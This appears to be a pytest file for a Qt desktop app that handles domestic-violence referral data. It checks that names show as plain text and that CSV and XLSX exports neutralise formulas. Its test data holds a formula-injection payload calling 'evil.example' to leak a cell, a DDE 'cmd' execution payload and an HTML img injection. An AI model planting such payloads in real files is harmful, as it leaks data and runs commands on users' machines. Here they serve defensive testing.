"""Plain text wherever text is shown: Qt labels never render data as HTML, spreadsheets never
receive a live formula, whatever the directory or the counselor typed."""

import csv
import datetime as dt
import io

import openpyxl
import pytest
from PySide6.QtCore import Qt
from PySide6.QtGui import QTextDocument
from PySide6.QtWidgets import QLabel
from sqlalchemy import select, update

from dvdesk import files
from dvdesk.admin import sheet_files, sheets
from dvdesk.domain import referrals, report_export, statistics
from dvdesk.domain.models import Organization, Service
from dvdesk.gui.referrals import ReferralLogWindow

IMG = '<img src="/etc/hostname" width=2000 height=2000>'
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"詳細")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_the_formula_guard_quotes_what_a_spreadsheet_would_run_and_restores_it(value):
    guarded = files.neutralise_formula(value)
    assert guarded == "'" + value
    assert files.restore_formula(guarded) == value


@pytest.mark.parametrize("value", ["市民課", "R7-0142", "'quoted", "0120-279-889", 12, None, ""])
def test_the_formula_guard_leaves_everything_else_alone(value):
    assert files.neutralise_formula(value) == value
    assert files.restore_formula(value) == value


def test_the_referral_log_shows_names_as_text_not_html(qtbot, mini_db):
    with mini_db.write() as s:
        s.execute(update(Service).where(Service.key == "test.svc.housing").values(name=IMG))
        service = s.scalar(select(Service.id).where(Service.key == "test.svc.housing"))
        referrals.record_referral(
            s,
            case_ref="R7-0142",
            counselor="<b>相談員</b>",
            service_ids=[service],
            referred_on=dt.date(2025, 1, 6),
            today=dt.date(2025, 6, 30),
        )
    window = ReferralLogWindow(mini_db, clock=lambda: dt.date(2025, 6, 30))
    qtbot.addWidget(window)
    window.show()
    window.open_only.setChecked(False)
    window.table.selectRow(0)
    shown = window.detail.text()
    assert "<img" not in shown and "&lt;img" in shown  # escaped inside the program's own markup
    doc = QTextDocument()
    doc.setHtml(shown)
    seen = doc.toPlainText()
    assert IMG in seen and "<b>相談員</b>" in seen  # what the counselor reads: the name as typed
    assert window.banner.textFormat() == Qt.TextFormat.PlainText
    assert window.message.textFormat() == Qt.TextFormat.PlainText
    window.grab().save(str(qtbot_screenshot_path()))


def qtbot_screenshot_path():
    import os
    from pathlib import Path

    folder = Path(os.environ.get("DVDESK_SCREENSHOTS", "")) if os.environ.get("DVDESK_SCREENSHOTS") else None
    return (folder or Path(os.environ["DVDESK_HOME"])) / "referral-log-plain.png"


def test_every_label_that_shows_data_is_plain_text(qtbot, mini_db):
    """No QLabel in the referral and statistics windows guesses its format: each is plain text,
    except the detail label, whose markup is the program's own (checked above)."""
    from dvdesk.gui.referrals import StatisticsWindow

    for window in (ReferralLogWindow(mini_db), StatisticsWindow(mini_db)):
        qtbot.addWidget(window)
        for label in window.findChildren(QLabel):
            if label is getattr(window, "detail", None):
                assert label.textFormat() == Qt.TextFormat.RichText
            elif label.text() and not label.text().isascii():
                continue  # a fixed caption from the program (self.tr): no data in it
            else:
                assert label.textFormat() == Qt.TextFormat.PlainText, label.objectName() or label.text()


def _report_with_department(db, name):
    with db.write() as s:
        s.execute(update(Organization).where(Organization.key == "test.center").values(name=name))
        center = s.scalar(select(Organization.id).where(Organization.key == "test.center"))
        statistics.save_month_counts(
            s, dt.date(2025, 4, 1), center, True, {("consultation", "phone"): 3}, today=dt.date(2025, 6, 30)
        )
    with db.read() as s:
        return statistics.year_report(s, 2025, "entered")


@pytest.mark.parametrize("name", FORMULAS[:4])
def test_statistics_never_write_a_formula_built_from_a_name(mini_db, tmp_path, name):
    report = _report_with_department(mini_db, name)
    xlsx, csv_path = tmp_path / "r.xlsx", tmp_path / "r.csv"
    report_export.write_xlsx(report, xlsx)
    report_export.write_csv(report, csv_path)
    wb = openpyxl.load_workbook(xlsx)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + name in [c.value for c in cells]
    rows = list(csv.reader(io.StringIO(csv_path.read_bytes().decode("utf-8-sig"))))
    fields = [f for row in rows for f in row]
    assert "'" + name in fields
    assert not [f for f in fields if f.startswith(files.FORMULA_STARTS)]


def test_the_sheet_export_neutralises_formulas_and_reimports_them_unchanged(mini_db, tmp_path):
    with mini_db.write() as s:
        for key, value in zip(
            ("test.svc.housing", "test.svc.law", "test.svc.kids", "test.svc.consult"), FORMULAS, strict=False
        ):
            s.execute(update(Service).where(Service.key == key).values(description=value))
    for suffix in (".csv", ".xlsx"):
        path = tmp_path / f"s{suffix}"
        sheets.export_sheet(mini_db, path)
        if suffix == ".csv":
            fields = [f for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))) for f in row]
        else:
            wb = openpyxl.load_workbook(path)
            fields = [
                c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)
            ]
            assert not [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
        assert not [f for f in fields if f.startswith(files.FORMULA_STARTS)]
        for value in FORMULAS[:4]:
            assert "'" + value in fields
        report = sheets.import_sheet(mini_db, path, "管理 花子", dry_run=True)
        assert report.plan.empty, [r for r in report.rows if r.action != "unchanged"]
    assert sheet_files.read_csv(tmp_path / "s.csv")[0]


def test_a_message_box_that_quotes_data_shows_it_as_text(qtbot, mini_db):
    """A message box guesses like a label: a first line quoting a record's or a package's name
    (「<img …>」 from a sheet, an HSDS file or a package) was rendered as HTML in the error box and in
    the administration window's messages."""
    from dvdesk.gui.admin.window import AdminWindow
    from dvdesk.gui.error_dialogs import error_box

    message = f"サービス「{IMG}」（test.svc.x）: 保存できません"
    box = error_box(None, message, detail=message)
    assert box.textFormat() == Qt.TextFormat.PlainText
    assert [q.textFormat() for q in box.findChildren(QLabel, "qt_msgbox_informativelabel")] == [Qt.TextFormat.PlainText]
    box.deleteLater()
    window = AdminWindow(mini_db, "管理 花子")
    qtbot.addWidget(window)
    window.show_error(message)
    assert window.message_box is not None and window.message_box.textFormat() == Qt.TextFormat.PlainText
    assert window.message_box.text() == message
    window.message_box.close()
